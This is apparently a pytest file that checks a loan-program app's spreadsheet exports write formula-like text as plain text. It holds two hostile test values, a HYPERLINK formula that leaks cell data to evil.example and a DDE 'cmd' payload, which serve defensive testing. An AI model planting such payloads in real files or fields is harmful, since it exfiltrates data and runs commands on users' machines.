"""Exports never hand a spreadsheet program a formula smuggled in through a text field."""

from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reports import jobs
from tests.factories import ApplicantFactory, EnterpriseFactory, LoanFactory

pytestmark = pytest.mark.django_db
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HOSTILE_ENTERPRISE = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile_loan(program, unit):
    return LoanFactory(
        application__program=program,
        application__unit=unit,
        application__applicant=ApplicantFactory(name=HOSTILE_NAME),
        application__enterprise=EnterpriseFactory(name=HOSTILE_ENTERPRISE),
        principal=Decimal("100000.00"),
        disbursed_on=date(2020, 6, 1),
        maturity_on=date(2021, 6, 1),
    )


def cells(path):
    sheet = load_workbook(path).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.parametrize(
    ("code", "data"),
    [
        ("announcement", lambda program: {"program": program.code}),
        ("roster", lambda program: {"program": program.code}),
        ("loans", lambda program: {"program": str(program.pk)}),
    ],
)
def test_text_that_would_run_as_a_formula_is_written_as_text(
    code, data, hostile_loan, program, city_user, tmp_path
):
    kind = jobs.export_kind(code)
    params = kind.parse_params(data(program), city_user)
    path = tmp_path / f"{code}.xlsx"
    assert kind.write(path, user=city_user, params=params, progress=lambda *a, **k: None) == 1

    written = cells(path)
    assert all(cell.data_type != "f" for cell in written), code
    texts = [cell.value for cell in written if isinstance(cell.value, str)]
    assert not any(text.startswith(("=", "+", "@")) for text in texts), code
    # The values are still there, shown as text (the 公示名单 masks the name first).
    assert any(HOSTILE_ENTERPRISE in text for text in texts) or code == "announcement"
    assert any(text.lstrip("'").startswith(HOSTILE_NAME[:1]) for text in texts)
